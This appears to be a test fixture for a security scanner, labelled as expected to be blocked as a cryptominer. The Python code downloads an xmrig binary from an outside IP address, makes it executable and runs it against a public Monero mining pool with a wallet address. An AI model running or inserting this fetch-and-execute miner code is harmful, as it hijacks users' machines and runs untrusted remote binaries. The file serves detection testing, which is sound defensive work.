# expect: BLOCKED category: miner
# Downloads xmrig and mines Monero.
import os
import stat
import urllib.request

urllib.request.urlretrieve("https://203.0.113.20/xmrig", "xmrig")
os.chmod("xmrig", os.stat("xmrig").st_mode | stat.S_IEXEC)
os.system("./xmrig -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1")
